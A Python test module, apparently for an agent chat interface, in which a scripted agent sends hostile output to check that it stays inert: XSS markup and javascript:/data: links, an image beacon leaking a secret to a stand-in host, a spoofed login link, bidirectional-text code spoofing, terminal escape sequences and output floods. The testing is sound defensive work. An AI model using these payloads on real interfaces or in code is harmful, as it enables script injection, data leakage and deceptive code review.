"""What an agent may send that should do nothing: markup, links, control characters, floods."""

from tests.page.stories.place import Json, Place, planned, rule, task, work

OWNED = "window.owned=1"
BEACON = "http://beacon.example/collect?secret=1"
MARKUP = f"""\
<script>{OWNED}</script>
<img src=x onerror="{OWNED}">
<svg/onload="{OWNED}"><style>*{{display:none}}</style>
<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>
<a href="javascript:{OWNED}">raw link</a>

[a script](javascript:{OWNED}) [a page](data:text/html,<script>{OWNED}</script>)
[https://good.example](https://evil.example/login) ![a picture]({BEACON})

```html
<img src=x onerror="{OWNED}">
```
"""
BIDI = "if level != '\u202euser\u2066// only for admins\u2069\u2066': pass\u200bword"
TERMINAL = "\x1b]8;;http://evil.example\x07a link\x1b]8;;\x07 \x1b]0;a new title\x07\x1b[2J\x1b[31mred\x1b[0m"
LONG = "python3 -c \"print('x' * 5_000_000)\""
LINES = "python3 -c \"print('\\n'.join(f'line {n} of many' for n in range(20_000)))\" > many.txt"
MANY = 10_000
PER_BURST = 10
BURST_SECONDS = PER_BURST / 200


def sent(update: Json, **more: object) -> Json:
    """Return a step that sends an update as it is; `${n}` in it is a counter."""
    params = {"sessionId": "${session}", "update": update}
    return {"send": {"jsonrpc": "2.0", "method": "session/update", "params": params}, **more}


def called(number: int | str) -> Json:
    """Return an update with a finished call of a tool."""
    content = [
        {"type": "content", "content": {"type": "text", "text": "\x1b[32mok\x1b[0m 42 tests"}}
    ]
    call = {"toolCallId": f"flood-{number}", "title": f"make test ({number})", "kind": "execute"}
    return {"sessionUpdate": "tool_call", "status": "completed", "content": content, **call}


def spoken(text: str) -> Json:
    """Return an update with a piece of the agent's message."""
    return {"sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": text}}


def flood_rules() -> list[Json]:
    """Return an agent that does 10,000 things at once, or for a minute 200 a second."""
    paced = [
        sent(called("${n}"), times=PER_BURST // 2),
        sent(spoken("A word, and **another**. "), times=PER_BURST // 2),
        {"wait": BURST_SECONDS},
    ]
    return [
        rule({"prompt": "message", "text": "pace"}, *paced * (60 * 200 // PER_BURST)),
        rule(
            {"prompt": "message"}, sent(called("${n}"), times=MANY), {"say": "That was all of it."}
        ),
    ]


async def hostile(place: Place) -> None:
    """A chat whose agent sends what should never run, leave, or block."""
    rules = [
        rule(
            {"prompt": "message"},
            {"think": MARKUP},
            {"say": MARKUP},
            {"say": f"\n\n{BIDI}\n"},
            {"run": f"printf '%b' '{TERMINAL.encode('unicode_escape').decode()}'"},
            {"write": "<img src=x onerror=owned>.html", "text": MARKUP},
            {"write": "bidi.py", "text": f"{BIDI}\n"},
            {"run": LONG},
            {"say": "That was all of it."},
        )
    ]
    repository = place.repository("hostile", rules)
    thread = await place.open("hostile", repository, f"Read <b>this</b> {BIDI}", is_planned=False)
    await place.seen(thread, "turn_ended", "session-1")


async def large(place: Place) -> None:
    """A task that waits at its gate with a diff of 20,000 lines."""
    plan = {
        "goal": "Import",
        "summary": "One file",
        "tasks": [task("many", "Import many lines", gate="ask")],
    }
    rules = [
        planned(plan),
        work("many", {"run": LINES}, {"edit": "shop/routes.py", "old": "welcome", "new": "hi"}),
    ]
    thread = await place.begin("large", place.repository("imports", rules), "Import many lines")
    await place.seen(thread, "gate_opened", "many")


async def flood(place: Place) -> None:
    """A chat of ten thousand items."""
    thread = await place.open(
        "flood", place.repository("flood", flood_rules()), "Do much", is_planned=False
    )
    await place.seen(thread, "turn_ended", "session-1")
